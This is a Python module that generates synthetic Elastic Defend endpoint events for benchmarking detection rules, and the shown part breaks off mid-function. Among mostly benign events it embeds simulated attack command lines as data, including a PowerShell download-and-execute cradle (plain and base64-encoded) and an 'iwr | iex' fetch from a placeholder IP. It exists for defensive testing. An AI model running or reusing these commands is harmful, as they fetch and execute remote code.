"""Deterministic, realistic ECS endpoint events for benchmarks and tests.

The events have the shape Elastic Defend writes (``event.category`` and ``event.type`` are
arrays, ``process.args`` is an array, ``process.parent`` is nested, ``@timestamp`` is an ISO
string with milliseconds and ``Z``). They come from many hosts (mostly Windows, some Linux and
macOS), are mostly benign (service hosts, browsers, Office, git, python, node...) and a small,
seeded share are attacks that the three seed rules and a few dozen corpus rules detect:

* wscript/cscript/mshta spawning powershell or cmd (seed "via Windows Scripts"),
* node.exe running from AppData or with ``eval(``/``atob(``/``child_process`` (seed "NodeJS"),
* a browser downloading a script, then explorer launching wscript/mshta/cmd on it within
  seconds (seed "Execution of a Downloaded Windows Script", a sequence),
* certutil, vssadmin, reg save, bcdedit, whoami from a web server, encoded PowerShell,
  Run-key persistence, mshta children...,

plus near misses (the same tools with harmless arguments, downloads executed too late, no
origin URL) so that prefilters and rules both have something to reject.

Same ``seed`` and ``count`` give the same events, byte for byte, on every machine.

Usage::

    from bench.events import generate_events, write_ndjson
    for event in generate_events(200_000, seed=1059): ...
    write_ndjson(generate_events(10_000), "events.ndjson")
    python -m bench.events 10000 > events.ndjson
"""

from __future__ import annotations

import base64
import heapq
import itertools
import random
import sys
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta
from typing import IO

import orjson

DEFAULT_SEED = 1059
BASE_TIME = datetime(2026, 1, 5, 7, 30, tzinfo=UTC)

SYSTEM = ("SYSTEM", "NT AUTHORITY", "S-1-5-18")
LOCAL_SERVICE = ("LOCAL SERVICE", "NT AUTHORITY", "S-1-5-19")
NETWORK_SERVICE = ("NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20")
IIS_POOL = ("DefaultAppPool", "IIS APPPOOL", "S-1-5-82-3006700770-424185619-1745488364-794895919")

MS_SIGNED = {
    "exists": True,
    "status": "trusted",
    "subject_name": "Microsoft Windows",
    "trusted": True,
}
MS_CORP = {
    "exists": True,
    "status": "trusted",
    "subject_name": "Microsoft Corporation",
    "trusted": True,
}
UNSIGNED = {"exists": False}

FIRST_NAMES = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
    "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter",
    "yasmin", "zoe", "omar", "lena", "kenji", "priya", "tomas", "ines", "marek", "sofia", "li",
]  # fmt: skip


def _w(path: str) -> str:
    return "C:\\Windows\\System32\\" + path


# Benign Windows programs: name -> (executable, signature, original file name, command tails,
# parents). "{u}" in paths and arguments is the user's name.
WIN_PROGRAMS: dict[str, tuple[str, dict, str, list[list[str]], list[str]]] = {
    "explorer.exe": (
        "C:\\Windows\\explorer.exe", MS_SIGNED, "EXPLORER.EXE", [[]], ["userinit.exe"],
    ),
    "w3wp.exe": (
        _w("inetsrv\\w3wp.exe"), MS_SIGNED, "w3wp.exe", [["-ap", "DefaultAppPool", "-v", "v4.0"]],
        ["svchost.exe"],
    ),
    "7zFM.exe": (
        "C:\\Program Files\\7-Zip\\7zFM.exe", UNSIGNED, "7zFM.exe", [[]], ["explorer.exe"],
    ),
    "svchost.exe": (
        _w("svchost.exe"), MS_SIGNED, "svchost.exe",
        [["-k", "netsvcs", "-p", "-s", "Schedule"], ["-k", "LocalService", "-p", "-s", "EventLog"],
         ["-k", "NetworkService", "-p", "-s", "Dnscache"], ["-k", "wsappx", "-p", "-s", "AppXSvc"],
         ["-k", "UnistackSvcGroup"], ["-k", "DcomLaunch", "-p"]],
        ["services.exe"],
    ),
    "chrome.exe": (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        {"exists": True, "status": "trusted", "subject_name": "Google LLC", "trusted": True},
        "chrome.exe",
        [["--type=renderer", "--lang=en-US", "--renderer-client-id=7"],
         ["--type=utility", "--utility-sub-type=network.mojom.NetworkService", "--lang=en-US"],
         ["--type=gpu-process", "--gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAA"],
         ["https://mail.example.com/"], []],
        ["explorer.exe", "chrome.exe"],
    ),
    "msedge.exe": (
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", MS_CORP, "msedge.exe",
        [["--type=renderer", "--lang=en-US"], ["--single-argument", "https://intranet.example.com/"],
         ["--type=utility", "--utility-sub-type=storage.mojom.StorageService"]],
        ["explorer.exe", "msedge.exe"],
    ),
    "WINWORD.EXE": (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", MS_CORP, "WinWord.exe",
        [["/n", "C:\\Users\\{u}\\Documents\\quarterly report.docx"], ["/n"],
         ["C:\\Users\\{u}\\Downloads\\minutes.docx"]],
        ["explorer.exe", "OUTLOOK.EXE"],
    ),
    "EXCEL.EXE": (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", MS_CORP, "Excel.exe",
        [["C:\\Users\\{u}\\Documents\\budget-2026.xlsx"], ["/automation", "-Embedding"]],
        ["explorer.exe", "OUTLOOK.EXE", "svchost.exe"],
    ),
    "OUTLOOK.EXE": (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", MS_CORP, "Outlook.exe",
        [[], ["/recycle"]],
        ["explorer.exe"],
    ),
    "ms-teams.exe": (
        "C:\\Program Files\\WindowsApps\\MSTeams_25.1.0.0_x64__8wekyb3d8bbwe\\ms-teams.exe",
        MS_CORP, "ms-teams.exe", [["msteams:system-initiated"], []], ["explorer.exe", "svchost.exe"],
    ),
    "OneDrive.exe": (
        "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", MS_CORP,
        "OneDrive.exe", [["/background"], ["/updateInstalled", "/background"]], ["explorer.exe"],
    ),
    "git.exe": (
        "C:\\Program Files\\Git\\cmd\\git.exe",
        {"exists": True, "status": "trusted", "subject_name": "Johannes Schindelin", "trusted": True},
        "git.exe",
        [["status", "--porcelain"], ["fetch", "origin"], ["log", "--oneline", "-n", "20"],
         ["rev-parse", "--show-toplevel"], ["pull", "--ff-only"], ["diff", "--stat"]],
        ["Code.exe", "cmd.exe", "powershell.exe", "git.exe"],
    ),
    "python.exe": (
        "C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe",
        {"exists": True, "status": "trusted", "subject_name": "Python Software Foundation",
         "trusted": True},
        "py.exe",
        [["manage.py", "runserver"], ["-m", "pip", "install", "-r", "requirements.txt"],
         ["-m", "pytest", "-q"], ["C:\\Users\\{u}\\src\\tools\\report.py", "--weekly"]],
        ["cmd.exe", "Code.exe", "powershell.exe"],
    ),
    "Code.exe": (
        "C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", MS_CORP,
        "electron.exe", [[], ["--type=utility", "--utility-sub-type=node.mojom.NodeService"]],
        ["explorer.exe", "Code.exe"],
    ),
    "node.exe": (
        "C:\\Program Files\\nodejs\\node.exe",
        {"exists": True, "status": "trusted", "subject_name": "OpenJS Foundation", "trusted": True},
        "node.exe",
        [["C:\\Users\\{u}\\src\\webapp\\server.js"], ["node_modules\\vite\\bin\\vite.js", "build"],
         ["C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js", "install"]],
        ["cmd.exe", "Code.exe", "powershell.exe"],
    ),
    "conhost.exe": (
        _w("conhost.exe"), MS_SIGNED, "CONHOST.EXE", [["0xffffffff", "-ForceV1"]],
        ["cmd.exe", "powershell.exe", "python.exe", "git.exe"],
    ),
    "cmd.exe": (
        _w("cmd.exe"), MS_SIGNED, "Cmd.Exe",
        [[], ["/c", "git", "status"], ["/c", "echo", "%PATH%"], ["/d", "/s", "/c", "npm run build"],
         ["/c", "C:\\Users\\{u}\\scripts\\backup.bat"], ["/c", "ipconfig", "/all"]],
        ["explorer.exe", "Code.exe", "svchost.exe"],
    ),
    "powershell.exe": (
        _w("WindowsPowerShell\\v1.0\\powershell.exe"), MS_SIGNED, "PowerShell.EXE",
        [[], ["-NoLogo"], ["-NoProfile", "-Command", "Get-ChildItem C:\\Users\\{u}\\Documents"],
         ["-NoProfile", "-ExecutionPolicy", "RemoteSigned", "-File",
          "C:\\Users\\{u}\\scripts\\sync-notes.ps1"]],
        ["explorer.exe", "Code.exe", "cmd.exe"],
    ),
    "RuntimeBroker.exe": (
        _w("RuntimeBroker.exe"), MS_SIGNED, "RuntimeBroker.exe", [["-Embedding"]], ["svchost.exe"],
    ),
    "taskhostw.exe": (
        _w("taskhostw.exe"), MS_SIGNED, "taskhostw.exe", [[], ["Install", "$(Arg0)"]],
        ["svchost.exe"],
    ),
    "SearchProtocolHost.exe": (
        _w("SearchProtocolHost.exe"), MS_SIGNED, "SearchProtocolHost.exe",
        [["Global\\UsGthrFltPipeMssGthrPipe5_", "Global\\UsGthrCtrlFltPipeMssGthrPipe5", "1",
          "-2147483646", "Software\\Microsoft\\Windows Search", "Mozilla/4.0"]],
        ["SearchIndexer.exe"],
    ),
    "backgroundTaskHost.exe": (
        _w("backgroundTaskHost.exe"), MS_SIGNED, "backgroundTaskHost.exe",
        [["-ServerName:BackgroundTaskHost.WebAccountProvider"]], ["svchost.exe"],
    ),
    "dllhost.exe": (
        _w("dllhost.exe"), MS_SIGNED, "dllhost.exe",
        [["/Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"],
         ["/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"]],
        ["svchost.exe"],
    ),
    "WmiPrvSE.exe": (
        _w("wbem\\WmiPrvSE.exe"), MS_SIGNED, "Wmiprvse.exe", [["-Embedding"], ["-secured", "-Embedding"]],
        ["svchost.exe"],
    ),
    "msiexec.exe": (
        _w("msiexec.exe"), MS_SIGNED, "msiexec.exe", [["/V"]], ["services.exe"],
    ),
    "notepad.exe": (
        _w("notepad.exe"), MS_SIGNED, "NOTEPAD.EXE",
        [[], ["C:\\Users\\{u}\\Documents\\todo.txt"]], ["explorer.exe"],
    ),
    "MsMpEng.exe": (
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MsMpEng.exe",
        MS_CORP, "MsMpEng.exe", [[]], ["services.exe"],
    ),
    "ping.exe": (
        _w("PING.EXE"), MS_SIGNED, "ping.exe", [["-n", "1", "fileserver01"], ["8.8.8.8"]],
        ["cmd.exe", "powershell.exe"],
    ),
    "whoami.exe": (_w("whoami.exe"), MS_SIGNED, "whoami.exe", [[], ["/groups"]], ["cmd.exe"]),
    "certutil.exe": (
        _w("certutil.exe"), MS_SIGNED, "CertUtil.exe", [["-store", "my"], ["-verifystore", "Root"]],
        ["cmd.exe", "powershell.exe"],
    ),
    "reg.exe": (
        _w("reg.exe"), MS_SIGNED, "reg.exe",
        [["query", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall"]],
        ["cmd.exe", "powershell.exe"],
    ),
}  # fmt: skip

# Relative weights of benign process starts on Windows.
WIN_WEIGHTS = {
    "svchost.exe": 14, "chrome.exe": 18, "msedge.exe": 6, "WINWORD.EXE": 3, "EXCEL.EXE": 3,
    "OUTLOOK.EXE": 1, "ms-teams.exe": 3, "OneDrive.exe": 2, "git.exe": 8, "python.exe": 5,
    "Code.exe": 3, "node.exe": 4, "conhost.exe": 8, "cmd.exe": 5, "powershell.exe": 3,
    "RuntimeBroker.exe": 4, "taskhostw.exe": 2, "SearchProtocolHost.exe": 4,
    "backgroundTaskHost.exe": 2, "dllhost.exe": 3, "WmiPrvSE.exe": 2, "msiexec.exe": 1,
    "notepad.exe": 2, "MsMpEng.exe": 1, "ping.exe": 1, "whoami.exe": 1, "certutil.exe": 1,
    "reg.exe": 1,
}  # fmt: skip

NIX_PROGRAMS: dict[str, tuple[str, list[list[str]], list[str]]] = {
    "bash": ("/usr/bin/bash", [[], ["-c", "make test"], ["-l"]], ["sshd", "tmux: server", "bash"]),
    "sshd": ("/usr/sbin/sshd", [["-D", "-R"]], ["sshd", "systemd"]),
    "python3": ("/usr/bin/python3", [["-m", "http.server"], ["/opt/app/worker.py"], ["-m", "pip", "list"]], ["bash", "systemd"]),
    "git": ("/usr/bin/git", [["pull"], ["status"], ["log", "-1"]], ["bash"]),
    "curl": ("/usr/bin/curl", [["-fsSL", "https://packages.example.com/health"]], ["bash", "cron"]),
    "cron": ("/usr/sbin/cron", [["-f"]], ["systemd"]),
    "node": ("/usr/bin/node", [["/srv/api/index.js"]], ["systemd", "bash"]),
    "apt-get": ("/usr/bin/apt-get", [["update"], ["-y", "upgrade"]], ["bash"]),
    "zsh": ("/bin/zsh", [[], ["-l"]], ["login", "Terminal"]),
    "mdworker_shared": ("/System/Library/Frameworks/CoreServices.framework/mdworker_shared", [["-s", "mdworker"]], ["launchd"]),
}  # fmt: skip

SUSPICIOUS_ENC = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')".encode("utf-16-le")
).decode()

BENIGN_DOMAINS = [
    "www.google.com", "outlook.office365.com", "login.microsoftonline.com", "github.com",
    "pypi.org", "registry.npmjs.org", "update.googleapis.com", "teams.microsoft.com",
    "intranet.example.com", "fileserver01.corp.example.com", "ctldl.windowsupdate.com",
]  # fmt: skip


def _case(rng: random.Random, name: str) -> str:
    """Windows names come in several cases in real data; rules must not care (`:`)."""
    r = rng.random()
    if r < 0.15:
        return name.upper()
    if r < 0.25:
        return name[0].upper() + name[1:]
    return name


class _Host:
    __slots__ = ("domain", "id", "ip", "name", "os", "procs", "users")

    def __init__(self, rng: random.Random, index: int):
        r = rng.random()
        if r < 0.86:
            os_ = ("windows", rng.choice(["Windows 11 Pro", "Windows 10 Enterprise",
                                          "Windows Server 2022 Datacenter"]), "windows")  # fmt: skip
            self.name = f"{rng.choice(['WS', 'LT', 'SRV'])}-{index:04d}"
        elif r < 0.95:
            os_ = (
                "linux",
                rng.choice(["Ubuntu", "Debian GNU/Linux", "Red Hat Enterprise Linux"]),
                "debian",
            )
            self.name = f"lnx-{index:04d}"
        else:
            os_ = ("macos", "macOS", "darwin")
            self.name = f"mac-{index:04d}"
        self.os = os_
        self.id = "".join(rng.choices("0123456789abcdef", k=32))
        self.ip = f"10.{rng.randrange(1, 40)}.{rng.randrange(0, 255)}.{rng.randrange(2, 250)}"
        self.domain = "CORP"
        self.users = [
            (
                name,
                "CORP",
                f"S-1-5-21-1004336348-1177238915-682003330-{1100 + FIRST_NAMES.index(name)}",
            )
            for name in rng.sample(FIRST_NAMES, rng.randint(1, 3))
        ]
        self.procs: list[dict] = []


class _Generator:
    def __init__(self, seed: int, hosts: int, attack_rate: float, mean_gap_ms: float):
        self.rng = random.Random(seed)
        self.hosts = [_Host(self.rng, i) for i in range(hosts)]
        weights = [self.rng.paretovariate(1.5) for _ in self.hosts]
        self.host_cum_weights = list(itertools.accumulate(weights))
        self._ts_second, self._ts_prefix = -1, ""
        self.attack_rate = attack_rate
        self.mean_gap_ms = mean_gap_ms
        self.now_ms = 0.0
        self.pending: list[tuple[float, int, dict]] = []
        self.seq = 0
        self.win_names = list(WIN_WEIGHTS)
        self.win_cum_weights = list(itertools.accumulate(WIN_WEIGHTS.values()))
        self.attacks = [
            (self.attack_winscript_shell, 5),
            (self.attack_node, 4),
            (self.attack_download_then_run, 5),
            (self.near_miss_download, 4),
            (self.attack_certutil, 2),
            (self.attack_vssadmin, 1),
            (self.attack_reg_save, 1),
            (self.attack_bcdedit, 1),
            (self.attack_webshell_whoami, 1),
            (self.attack_encoded_powershell, 2),
            (self.attack_run_key, 2),
            (self.attack_mshta_child, 1),
            (self.attack_cmd_echo_vbs, 1),
            (self.attack_schtasks, 1),
        ]

    # --- helpers -------------------------------------------------------------------------

    def token(self, k: int) -> str:
        """k URL-safe base64 characters (k a multiple of 4)."""
        nbytes = k * 3 // 4
        raw = self.rng.getrandbits(nbytes * 8).to_bytes(nbytes, "big")
        return base64.urlsafe_b64encode(raw).decode()

    def timestamp(self, ms: float) -> str:
        whole = int(ms)
        second, milli = divmod(whole, 1000)
        if second != self._ts_second:
            t = BASE_TIME + timedelta(seconds=second)
            self._ts_second, self._ts_prefix = second, t.strftime("%Y-%m-%dT%H:%M:%S.")
        return f"{self._ts_prefix}{milli:03d}Z"

    def base(self, host: _Host, user: tuple, category: str, types: list[str], action: str,
             dataset: str) -> dict:  # fmt: skip
        return {
            "agent": {"type": "endpoint", "version": "9.1.0"},
            "data_stream": {"dataset": dataset, "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.11.0"},
            "event": {
                "action": action,
                "category": [category],
                "dataset": dataset,
                "kind": "event",
                "module": "endpoint",
                "type": types,
            },
            "host": {
                "hostname": host.name.lower(),
                "id": host.id,
                "ip": [host.ip],
                "name": host.name.lower(),
                "os": {"family": host.os[2], "name": host.os[1], "type": host.os[0]},
            },
            "user": {"domain": user[1], "id": user[2], "name": user[0]},
        }

    def emit_at(self, delay_ms: float, event: dict) -> None:
        self.seq += 1
        heapq.heappush(self.pending, (self.now_ms + delay_ms, self.seq, event))

    def proc(self, host: _Host, name: str, executable: str, args: list[str], *,
             parent: dict | None, signature: dict, original: str | None,
             user: tuple) -> dict:  # fmt: skip
        """A process instance (kept in the host's table so later events can refer to it)."""
        cmd = " ".join(f'"{a}"' if " " in a else a for a in args)
        p = {
            "args": args,
            "args_count": len(args),
            "command_line": cmd,
            "entity_id": self.token(36),
            "executable": executable,
            "name": name,
            "pid": self.rng.randrange(200, 65000),
            "user": user,
            "signature": signature,
            "original": original,
            "parent": parent,
        }
        table = host.procs
        table.append(p)
        if len(table) > 40:
            table.pop(self.rng.randrange(4, len(table)))
        return p

    def process_fields(self, p: dict, host: _Host) -> dict:
        fields = {
            "args": list(p["args"]),
            "args_count": p["args_count"],
            "command_line": p["command_line"],
            "entity_id": p["entity_id"],
            "executable": p["executable"],
            "name": p["name"],
            "pid": p["pid"],
        }
        if host.os[0] == "windows":
            sig = p["signature"]
            fields["code_signature"] = dict(sig)
            if p["original"] is not None:
                fields["pe"] = {"original_file_name": p["original"]}
            fields["Ext"] = {
                "token": {"integrity_level_name": "system" if p["user"] == SYSTEM else "medium"}
            }
        parent = p["parent"]
        if parent is not None:
            fields["parent"] = {
                "args": list(parent["args"]),
                "args_count": parent["args_count"],
                "command_line": parent["command_line"],
                "entity_id": parent["entity_id"],
                "executable": parent["executable"],
                "name": parent["name"],
                "pid": parent["pid"],
            }
        return fields

    def start_event(self, host: _Host, p: dict, delay_ms: float = 0.0) -> None:
        e = self.base(host, p["user"], "process", ["start"], "start", "endpoint.events.process")
        e["process"] = self.process_fields(p, host)
        self.emit_at(delay_ms, e)

    def find_parent(self, host: _Host, names: list[str]) -> dict:
        for p in reversed(host.procs):
            if p["name"] in names:
                return p
        return self.spawn_win(host, self.rng.choice(names), emit=False)

    def user_of(self, host: _Host) -> tuple:
        return self.rng.choice(host.users)

    def spawn_win(self, host: _Host, name: str, *, emit: bool = True, user=None) -> dict:
        exe, sig, orig, tails, parents = WIN_PROGRAMS.get(
            name, (_w(name), MS_SIGNED, name, [[]], ["services.exe"])
        )
        if user is None:
            user = SYSTEM if name in ("svchost.exe", "MsMpEng.exe", "msiexec.exe") else None
            user = user or self.user_of(host)
        u = user[0]
        exe = exe.replace("{u}", u)
        parent_name = self.rng.choice(parents)
        if not host.procs or parent_name == "services.exe":
            parent = self.root(host, parent_name)
        else:
            parent = self.find_parent(host, [parent_name]) if emit else self.root(host, parent_name)
        args = [exe] + [a.replace("{u}", u) for a in self.rng.choice(tails)]
        p = self.proc(host, name, exe, args, parent=parent, signature=sig, original=orig, user=user)
        if emit:
            self.start_event(host, p)
        return p

    def root(self, host: _Host, name: str) -> dict:
        exe = _w(name)
        return {
            "args": [exe],
            "args_count": 1,
            "command_line": exe,
            "entity_id": self.token(36),
            "executable": exe,
            "name": name,
            "pid": self.rng.randrange(200, 2000),
            "user": SYSTEM,
            "signature": MS_SIGNED,
            "original": name,
            "parent": None,
        }

    # --- benign activity -----------------------------------------------------------------

    def benign(self, host: _Host) -> None:
        rng = self.rng
        r = rng.random()
        if host.os[0] != "windows":
            self.benign_nix(host, r)
        elif r < 0.40:
            name = rng.choices(self.win_names, cum_weights=self.win_cum_weights)[0]
            self.spawn_win(host, name)
        elif r < 0.44:
            self.end_event(host)
        elif r < 0.62:
            self.file_event(host)
        elif r < 0.78:
            self.network_event(host)
        elif r < 0.90:
            self.registry_event(host)
        else:
            self.library_event(host)

    def any_proc(self, host: _Host) -> dict:
        if len(host.procs) < 3:
            return self.spawn_win(
                host, self.rng.choice(["chrome.exe", "svchost.exe", "explorer.exe"])
            )
        return self.rng.choice(host.procs)

    def end_event(self, host: _Host) -> None:
        p = self.any_proc(host)
        e = self.base(host, p["user"], "process", ["end"], "end", "endpoint.events.process")
        e["process"] = self.process_fields(p, host)
        e["process"]["exit_code"] = 0
        self.emit_at(0, e)

    def file_event(self, host: _Host) -> None:
        rng = self.rng
        p = self.any_proc(host)
        u = p["user"][0] if p["user"][1] == "CORP" else "Public"
        folder, names = rng.choice(
            [
                (f"C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache",
                 ["data_1", "f_0001a3", "index"]),
                (f"C:\\Users\\{u}\\Documents", ["notes.txt", "report.docx", "budget.xlsx"]),
                (f"C:\\Users\\{u}\\Downloads", ["setup.msi", "invoice.pdf", "photo.jpg", "data.csv"]),
                ("C:\\Windows\\Temp", ["MpCmdRun.log", "tmp8A21.tmp"]),
                (f"C:\\Users\\{u}\\src\\webapp", ["app.js", "index.html", "package.json"]),
                ("C:\\ProgramData\\Microsoft\\Windows Defender\\Scans", ["mpcache-1.bin"]),
            ]
        )  # fmt: skip
        fname = rng.choice(names)
        action, types = rng.choice(
            [("creation", ["creation"]), ("modification", ["change"]), ("deletion", ["deletion"]),
             ("overwrite", ["change"]), ("rename", ["change"])]
        )  # fmt: skip
        e = self.base(host, p["user"], "file", types, action, "endpoint.events.file")
        e["process"] = {
            "entity_id": p["entity_id"], "executable": p["executable"], "name": p["name"],
            "pid": p["pid"],
        }  # fmt: skip
        ext = fname.rsplit(".", 1)[1] if "." in fname else None
        e["file"] = {"name": fname, "path": f"{folder}\\{fname}"}
        if ext:
            e["file"]["extension"] = ext
        if folder.endswith("Downloads") and action == "creation":
            e["file"]["origin_url"] = f"https://{rng.choice(BENIGN_DOMAINS)}/files/{fname}"
            e["file"]["Ext"] = {"windows": {"zone_identifier": 3}}
        self.emit_at(0, e)

    def network_event(self, host: _Host) -> None:
        rng = self.rng
        p = self.any_proc(host)
        if rng.random() < 0.35:
            e = self.base(host, p["user"], "network", ["protocol", "info"], "lookup_requested",
                          "endpoint.events.network")  # fmt: skip
            e["dns"] = {"question": {"name": rng.choice(BENIGN_DOMAINS), "type": "A"}}
            e["network"] = {"protocol": "dns", "transport": "udp"}
        else:
            e = self.base(host, p["user"], "network", ["start", "connection"],
                          "connection_attempted", "endpoint.events.network")  # fmt: skip
            e["destination"] = {
                "ip": f"{rng.choice([13, 20, 52, 104, 142, 151])}.{rng.randrange(256)}."
                f"{rng.randrange(256)}.{rng.randrange(1, 255)}",
                "port": rng.choice([443, 443, 443, 80, 53, 445, 3389]),
            }
            e["source"] = {"ip": host.ip, "port": rng.randrange(49152, 65535)}
            e["network"] = {"direction": "egress", "transport": "tcp", "type": "ipv4"}
        e["process"] = {
            "entity_id": p["entity_id"], "executable": p["executable"], "name": p["name"],
            "pid": p["pid"],
        }  # fmt: skip
        self.emit_at(0, e)

    def registry_event(self, host: _Host) -> None:
        rng = self.rng
        p = self.any_proc(host)
        key, value, data = rng.choice(
            [
                ("HKLM\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings", "Version", "1"),
                ("HKEY_USERS\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs",
                 "MRUListEx", "\\x01"),
                ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates", "SignaturesLastUpdated", "0"),
                ("HKEY_USERS\\{sid}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming", "Identities", "1"),
                ("HKEY_USERS\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                 "OneDrive", "\"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"),
            ]
        )  # fmt: skip
        sid, u = p["user"][2], p["user"][0]
        key = key.replace("{sid}", sid)
        data = data.replace("{u}", u)
        e = self.base(host, p["user"], "registry", ["change"], "modification",
                      "endpoint.events.registry")  # fmt: skip
        e["registry"] = {
            "data": {"strings": [data], "type": "REG_SZ"},
            "hive": key.split("\\", 1)[0],
            "key": key.split("\\", 1)[1],
            "path": f"{key}\\{value}",
            "value": value,
        }
        e["process"] = {
            "entity_id": p["entity_id"], "executable": p["executable"], "name": p["name"],
            "pid": p["pid"],
        }  # fmt: skip
        self.emit_at(0, e)

    def library_event(self, host: _Host) -> None:
        rng = self.rng
        p = self.any_proc(host)
        dll = rng.choice(["ntdll.dll", "kernel32.dll", "user32.dll", "ws2_32.dll", "crypt32.dll",
                          "amsi.dll", "winhttp.dll", "clr.dll"])  # fmt: skip
        e = self.base(host, p["user"], "library", ["start"], "load", "endpoint.events.library")
        e["dll"] = {
            "code_signature": dict(MS_SIGNED),
            "name": dll,
            "path": _w(dll),
        }
        e["process"] = {
            "entity_id": p["entity_id"], "executable": p["executable"], "name": p["name"],
            "pid": p["pid"],
        }  # fmt: skip
        self.emit_at(0, e)

    def benign_nix(self, host: _Host, r: float) -> None:
        rng = self.rng
        name = rng.choice(list(NIX_PROGRAMS))
        exe, tails, parents = NIX_PROGRAMS[name]
        user = ("root", None, "0") if rng.random() < 0.4 else ("deploy", None, "1000")
        parent_name = rng.choice(parents)
        parent = {
            "args": [parent_name], "args_count": 1, "command_line": parent_name,
            "entity_id": self.token(36), "executable": f"/usr/bin/{parent_name}",
            "name": parent_name, "pid": rng.randrange(1, 40000), "user": user,
            "signature": UNSIGNED, "original": None, "parent": None,
        }  # fmt: skip
        args = [exe, *rng.choice(tails)]
        p = self.proc(host, name, exe, args, parent=parent, signature=UNSIGNED, original=None,
                      user=user)  # fmt: skip
        if r < 0.6:
            e = self.base(host, user, "process", ["start"], "exec", "endpoint.events.process")
            e["process"] = self.process_fields(p, host)
            e["user"].pop("domain")
            self.emit_at(0, e)
        else:
            self.network_event(host)

    # --- attacks and near misses ---------------------------------------------------------

    def attack(self, host: _Host) -> None:
        if host.os[0] != "windows":
            self.benign(host)
            return
        fns, weights = zip(*self.attacks, strict=True)
        self.rng.choices(fns, weights)[0](host)

    def child(self, host: _Host, parent: dict, name: str, exe: str, args: list[str], *,
              user=None, original: str | None = None, delay_ms: float = 0.0,
              signature: dict = MS_SIGNED) -> dict:  # fmt: skip
        p = self.proc(host, name, exe, [exe, *args], parent=parent, signature=signature,
                      original=original or name, user=user or parent["user"])  # fmt: skip
        self.start_event(host, p, delay_ms)
        return p

    def attack_winscript_shell(self, host: _Host) -> None:
        rng = self.rng
        user = self.user_of(host)
        explorer = self.find_parent(host, ["explorer.exe"])
        host_name = rng.choice(["wscript.exe", "mshta.exe", "cscript.exe"])
        script = rng.choice(["invoice_0931.vbs", "Payment-Advice.js", "update.hta", "scan_001.wsf"])
        folder = rng.choice(["Downloads", "AppData\\Local\\Temp", "Desktop"])
        if rng.random() < 0.2:  # near miss: the script lives outside the user's profile
            spath = f"\\\\fileserver01\\logon\\{script}"
        else:
            spath = f"C:\\Users\\{user[0]}\\{folder}\\{script}"
        ws = self.child(host, explorer, _case(rng, host_name), _w(host_name), [spath], user=user)
        shell = rng.choice(["powershell.exe", "cmd.exe", "pwsh.exe"])
        args = {
            "powershell.exe": ["-nop", "-w", "hidden", "-enc", SUSPICIOUS_ENC],
            "pwsh.exe": ["-c", "iwr http://203.0.113.7/p.ps1 | iex"],
            "cmd.exe": ["/c", "echo", "wscript", ">", "C:\\Users\\Public\\s.vbs"],
        }[shell]
        exe = (
            _w("WindowsPowerShell\\v1.0\\powershell.exe")
            if shell == "powershell.exe"
            else _w(shell)
        )
        self.child(host, ws, _case(rng, shell), exe, args, delay_ms=rng.uniform(50, 900))

    def attack_node(self, host: _Host) -> None:
        rng = self.rng
        user = self.user_of(host)
        parent = self.find_parent(host, [rng.choice(["explorer.exe", "cmd.exe", "powershell.exe"])])
        variant = rng.randrange(4)
        if variant == 0:
            exe = f"C:\\Users\\{user[0]}\\AppData\\Roaming\\nvm\\node.exe"
            args = [f"C:\\Users\\{user[0]}\\AppData\\Local\\Temp\\loader.js"]
        elif variant == 1:
            exe = "C:\\Program Files\\nodejs\\node.exe"
            args = ["-e", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"]
        elif variant == 2:
            exe = "C:\\Program Files\\nodejs\\node.exe"
            args = ["-e", "require('child_process').exec('whoami')"]
        else:  # near miss: node in AppData running no script
            exe = f"C:\\Users\\{user[0]}\\AppData\\Roaming\\nvm\\node.exe"
            args = ["--version"]
        sig = {
            "exists": True,
            "status": "trusted",
            "subject_name": "OpenJS Foundation",
            "trusted": True,
        }
        self.child(host, parent, _case(rng, "node.exe"), exe, args, user=user, signature=sig)

    def download(self, host: _Host, user: tuple, browser: str, ext: str, origin: bool) -> str:
        rng = self.rng
        bp = self.find_parent(host, [browser])
        name = f"{rng.choice(['Invoice', 'scan', 'DHL_Delivery', 'resume', 'payroll'])}_{rng.randrange(1000)}.{ext}"
        path = f"C:\\Users\\{user[0]}\\Downloads\\{name}"
        e = self.base(host, user, "file", ["creation"], "creation", "endpoint.events.file")
        e["process"] = {
            "entity_id": bp["entity_id"], "executable": bp["executable"], "name": _case(rng, browser),
            "pid": bp["pid"],
        }  # fmt: skip
        e["file"] = {"extension": ext, "name": name, "path": path}
        if origin:
            e["file"]["origin_url"] = (
